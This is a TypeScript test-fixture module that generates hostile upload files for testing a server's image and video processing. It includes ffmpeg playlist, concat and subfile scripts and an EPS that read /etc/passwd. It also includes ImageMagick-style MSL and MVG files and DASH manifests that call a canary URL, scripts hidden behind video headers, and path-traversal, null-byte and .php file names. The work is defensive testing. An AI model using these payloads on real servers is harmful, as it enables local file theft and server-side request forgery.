import type { Random } from '../../../apps/server/src/demo/seed/random.ts';
import { PAYLOAD } from '../requests/hostile-values.ts';
import { type FilePlan, plan } from './hostile-file.ts';
import { noise } from './pictures.ts';
import { ACTIVE } from './spoilt.ts';

const playlist = (url: string) => `#EXTM3U\n#EXT-X-VERSION:3\n#EXTINF:10,\n${url}\n#EXT-X-ENDLIST\n`;
const MP4 = '\0\0\0\x18ftypisom\0\0\0\0isommp41';
const AVI = `RIFF\xff\xff\xff\x7fAVI LIST`;
const MKV = '\x1a\x45\xdf\xa3\x01\0\0\0\0\0\0\x23\x42\x82\x88matroska';

/** Files that are neither picture nor video, and files that make ffmpeg read other files or addresses. */
export function foreign(random: Random, canaryUrl: string): FilePlan[] {
  const scripts: Record<string, string> = {
    'a playlist': playlist(canaryUrl),
    'a playlist of a file': playlist('file:///etc/passwd'),
    'a playlist of a pipe': playlist(`concat:${canaryUrl}|file:///etc/passwd`),
    'a subfile': playlist('subfile,,start,0,end,100,,:/etc/passwd'),
    'a concat script': `ffconcat version 1.0\nfile '/etc/passwd'\nfile '${canaryUrl}'\n`,
    'an mpd': `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>${canaryUrl}</BaseURL></MPD>`,
    'an sdp': `v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video 9 RTP/AVP 96\n`,
    'an msl': `<?xml version="1.0"?><image><read filename="${canaryUrl}"/><write filename="/tmp/${PAYLOAD}"/></image>`,
    'an mvg': `push graphic-context\nviewbox 0 0 9 9\nfill 'url(${canaryUrl})'\npop graphic-context`,
    'an eps': `%!PS\n(/etc/passwd) (r) file\n%${PAYLOAD}`,
  };
  const texts = { ...scripts, ...ACTIVE };
  return [
    ...Object.entries(texts).map(([name, text]) =>
      plan(`${name} called jpg`, () => Buffer.from(text, 'latin1'), { fileName: 'a.jpg' }),
    ),
    ...Object.entries(scripts)
      .slice(0, 5)
      .flatMap(([name, text]) => [
        plan(`${name} behind mp4`, () => Buffer.from(MP4 + text, 'latin1'), { fileName: 'a.mp4' }),
        plan(`${name} behind avi`, () => Buffer.from(AVI + text, 'latin1'), { fileName: 'a.avi' }),
        plan(`${name} behind mkv`, () => Buffer.from(MKV + text, 'latin1'), { fileName: 'a.mkv' }),
      ]),
    plan('nothing', () => Buffer.alloc(0)),
    plan('one byte', () => Buffer.alloc(1, 0xff)),
    plan('zeros', () => Buffer.alloc(200_000)),
    plan('noise', () => Buffer.from(Array.from({ length: 50_000 }, () => random.int(0, 255)))),
    plan('a picture of 31 MB', () =>
      Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(31 * 1024 * 1024)]),
    ),
    ...[
      '../../../../tmp/x.jpg',
      'x.jpg\0.html',
      '.htaccess',
      'я'.repeat(400),
      'x.php',
      '<img>.jpg',
      'a"b.jpg',
      'con.jpg',
    ].map((fileName) =>
      plan(`a picture called ${fileName.slice(0, 20)}`, () => noise(40, 40).jpeg().toBuffer(), { fileName }),
    ),
  ];
}
